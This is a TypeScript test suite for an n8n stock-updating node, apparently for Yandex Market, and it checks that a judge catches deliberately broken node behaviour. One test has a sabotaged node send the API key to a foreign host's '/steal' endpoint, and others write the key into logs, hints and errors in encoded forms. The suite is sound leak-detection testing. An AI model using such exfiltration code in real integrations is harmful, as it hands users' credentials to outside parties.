import {
	sleep,
	type IExecuteFunctions,
	type INodeExecutionData,
	type INodeType,
} from 'n8n-workflow';

import { UpdateStocks } from '../../nodes/UpdateStocks/UpdateStocks.node';
import { STORES, TOKENS } from '../../sandbox';
import { skuOf } from '../support/useSandbox';
import type { Complaint, Failing } from './judge/complaint';
import { judge } from './judge/judge';
import { Stage } from './play/stage';
import { json } from './proxy/pages';
import { NO_FAULTS, type FaultPlan } from './proxy/plan';
import type { Visit } from './proxy/visit';
import { keyOf, type Row } from './scenario/rows';
import type { Scenario, Step } from './scenario/scenario';

const HOUR_MS = 3_600_000;
/** Real time, on a machine that is busy with other things. */
const A_THOUSAND_REQUESTS_MS = 120_000;
const place = String(STORES.dbs.campaignId);

let stage: Stage;
beforeAll(async () => {
	stage = await Stage.open();
});
afterAll(async () => await stage.close());

/** Rows that send a number for each of three SKUs: the SKU's own number plus `more`. */
const rowsOf = (more: number): Row[] =>
	[1, 2, 3].map((offer) => ({
		json: { sku: skuOf(offer), place, stock: offer + more },
		meaning: { key: keyOf(place, skuOf(offer)), value: offer + more },
	}));

/** Three balances and one row that means nothing, sent to a store that holds a different number of the first SKU. */
function scenario(step: Partial<Step> = {}, faults: FaultPlan = NO_FAULTS): Scenario {
	const whole: Step = {
		job: 'update stores',
		rows: [...rowsOf(0), { json: { sku: skuOf(4), place, stock: 'many' } }],
		options: {},
		onError: 'continueRegularOutput',
		gapMs: 1,
		isBeside: false,
		...step,
	};
	const before = [{ key: keyOf(place, skuOf(1)), value: 77 }];
	return { seed: 1, summary: '', signIn: 'Api-Key', switches: {}, before, steps: [whole], faults };
}

type Ours = () => Promise<INodeExecutionData[][]>;
type Execute = (ours: Ours, context: IExecuteFunctions) => Promise<INodeExecutionData[][]>;

const asItIs: Execute = async (ours) => await ours();

/** What the judge says about a node that is broken on purpose. */
async function judged(execute: Execute, played = scenario()): Promise<Complaint[]> {
	class Broken extends UpdateStocks {
		override async execute(this: IExecuteFunctions): Promise<INodeExecutionData[][]> {
			return await execute(async () => await UpdateStocks.prototype.execute.call(this), this);
		}
	}
	const node = Broken as new () => INodeType;
	return judge(
		await stage.play(played, {
			'update stores': node,
			'update warehouses': node,
			hide: node,
			unhide: node,
		}),
	);
}

/** The node's own output with each item changed. */
const changing =
	(change: (item: INodeExecutionData, index: number) => INodeExecutionData): Execute =>
	async (ours) =>
		(await ours()).map((items) => items.map(change));

const failings = (complaints: readonly Complaint[]): Failing[] => [
	...new Set(complaints.map(({ failing }) => failing)),
];

/** Each write meets the same fault. */
function onWrites(strike: (visit: Visit) => Promise<void>): FaultPlan {
	const kind = {
		name: 'of a test',
		what: '',
		strike: async (visit: Visit) =>
			visit.request.path.endsWith('offers/stocks')
				? await strike(visit)
				: visit.answer(await visit.forward()),
	};
	return { summary: 'each write', kindFor: () => kind };
}

const modes = ['continueRegularOutput', 'continueErrorOutput', 'stopWorkflow'] as const;
const ways = modes.flatMap((onError) =>
	(['items', 'summary'] as const).map((output) => ({ onError, output })),
);

describe.each(ways)('$onError, $output', ({ onError, output }) => {
	const meeting = async (strike?: (visit: Visit) => Promise<void>) =>
		failings(
			await judged(
				asItIs,
				scenario({ onError, options: { output } }, strike ? onWrites(strike) : NO_FAULTS),
			),
		);

	it('if all is well, there is no complaint', async () => {
		expect(await meeting()).toEqual([]);
	});

	it('a success after which nothing arrived is wrong', async () => {
		expect(await meeting(async (visit) => visit.answer(json(200, { status: 'OK' })))).toEqual([
			'wrong',
		]);
	});

	it('a success after which all but one balance arrived is wrong', async () => {
		const failing = await meeting(async (visit) => {
			const { skus } = JSON.parse(visit.request.body.toString()) as { skus: unknown[] };
			visit.request.body = Buffer.from(JSON.stringify({ skus: skus.slice(1) }));
			visit.answer(await visit.forward());
		});
		expect(failing).toEqual(['wrong']);
	});

	it('a refusal after which all arrived is wrong', async () => {
		const failing = await meeting(async (visit) => {
			await visit.forward();
			visit.answer(
				json(400, { status: 'ERROR', errors: [{ code: 'X', message: 'Type mismatch' }] }),
			);
		});
		expect(failing).toEqual(['wrong']);
	});
});

describe('wrong is also', () => {
	it("a number that is not the item's, and a row that cannot have been accepted", async () => {
		const forged = { status: 'accepted', count: 5 };
		expect(
			await judged(changing((item, index) => (index % 3 === 0 ? { ...item, json: forged } : item))),
		).toEqual([
			{ failing: 'wrong', text: 'run 1, item 0: accepted as 5, but it means 1' },
			{ failing: 'wrong', text: 'run 1, item 3: accepted, but it means nothing' },
		]);
	});

	it('an older run whose balances come last', async () => {
		const { steps, ...rest } = scenario({ rows: rowsOf(0) });
		const newer = { ...steps[0], rows: rowsOf(10), gapMs: 10_000 } as Step;
		expect(await judged(asItIs, { ...rest, steps: [...steps, newer] })).toEqual([]);
		// The output shows the newer run's numbers, but those of the older one are sent.
		const older = {
			...newer,
			rows: newer.rows.map(({ json: item, meaning }, index) => ({
				json: { ...item, stock: index },
				meaning,
			})),
		};
		const told = changing((item, index) => ({
			...item,
			json: { ...item.json, count: index + 11 },
		}));
		expect(failings(await judged(told, { ...rest, steps: [older] }))).toEqual(['wrong']);
	});
});

describe('untold is', () => {
	it.each<[string, Execute]>([
		['a fate that is dropped', async (ours) => (await ours()).map((items) => items.slice(1))],
		[
			'two fates of one item',
			async (ours) => (await ours()).map((items) => [...items, ...items.slice(0, 1)]),
		],
		['a status that says nothing', changing((item) => ({ ...item, json: {} }))],
		[
			'a failure without a reason',
			changing((item) => ({ ...item, json: { ...item.json, reason: '' } })),
		],
		['an item of no input', changing((item) => ({ ...item, pairedItem: { item: 9 } }))],
		['no output', async () => [[]]],
	])('%s', async (_name, execute) => {
		expect(failings(await judged(execute))).toContain('untold');
	});

	it.each([{ accepted: 2 }, { failures: [] }])(
		'a summary that leaves something out: %j',
		async (change) => {
			const execute = changing((item) => ({ ...item, json: { ...item.json, ...change } }));
			expect(
				failings(await judged(execute, scenario({ options: { output: 'summary' } }))),
			).toContain('untold');
		},
	);

	it('an item that the message of a stopped workflow does not count', async () => {
		const execute: Execute = async (ours) => {
			await ours().catch(() => {});
			throw new Error('3 of 4 items were sent and accepted, 0 were not: Stock is "many"');
		};
		expect(failings(await judged(execute, scenario({ onError: 'stopWorkflow' })))).toEqual([
			'untold',
		]);
	});
});

describe('leaked is a secret', () => {
	const key = TOKENS.allMethods;
	const written: Array<[way: string, said: string]> = [
		['raw', key],
		['URL-encoded', encodeURIComponent(key)],
		['in base64', Buffer.from(key).toString('base64')],
		['in base64 among other things', Buffer.from(`Bearer ${key} and more`).toString('base64')],
	];

	it.each(written)('%s in the output, the hints and the log', async (_way, said) => {
		const complaints = await judged(async (ours, context) => {
			context.addExecutionHints({ message: `A hint with ${said}`, location: 'outputPane' });
			context.logger.info(`A line with ${said}`);
			return (await ours()).map((items) =>
				items.map((item) => ({ ...item, json: { ...item.json, deep: [{ note: `x${said}` }] } })),
			);
		});
		expect(failings(complaints)).toEqual(['leaked']);
		expect(
			complaints.map(({ text }) => /in the (\w+)/.exec(text.replace('in base64', ''))?.[1]).sort(),
		).toEqual(['hints', 'log', 'output']);
	});

	it.each(written)('%s in what an error carries', async (_way, said) => {
		const complaints = await judged(
			async (ours) => {
				await ours().catch(() => {});
				const context = { data: { headers: [said] } };
				throw Object.assign(new Error('3 of 4 items were sent and accepted, 1 was not'), {
					context,
				});
			},
			scenario({ onError: 'stopWorkflow' }),
		);
		expect(failings(complaints)).toEqual(['leaked']);
	});

	it('that another host received', async () => {
		let foreignUrl = '';
		const spy = onWrites(async (visit) => {
			({ foreignUrl } = visit);
			visit.answer(await visit.forward());
		});
		const complaints = await judged(
			async (ours, context) => {
				const output = await ours();
				await context.helpers.httpRequest({
					url: `${foreignUrl}/steal`,
					headers: { 'x-key': key },
				});
				return output;
			},
			scenario({}, spy),
		);
		expect(complaints).toEqual([
			{ failing: 'leaked', text: expect.stringContaining('raw, in the foreign host') },
		]);
	});
});

describe('endless is', () => {
	it.each<[string, Execute, Step['options']]>([
		['a wait of a day', async (ours) => await sleep(24 * HOUR_MS).then(ours), {}],
		[
			'a wait that Maximum Wait forbids',
			async (ours) => await sleep(HOUR_MS / 10).then(ours),
			{ maximumWait: 1 },
		],
		['a promise that nobody keeps', async () => await new Promise(() => {}), {}],
	])('%s', async (_name, execute, options) => {
		expect(failings(await judged(execute, scenario({ options })))).toContain('endless');
	});

	it(
		'one request after another for ever',
		async () => {
			let isOver = false;
			const execute: Execute = async (ours, context) => {
				context.onExecutionCancellation(() => (isOver = true));
				const { apiUrl } = await context.getCredentials('yandexMarketApi');
				while (!isOver)
					await context.helpers.httpRequest({
						url: `${String(apiUrl)}/v2`,
						ignoreHttpStatusErrors: true,
					});
				return await ours();
			};
			expect(failings(await judged(execute))).toEqual(['endless']);
		},
		A_THOUSAND_REQUESTS_MS,
	);
});
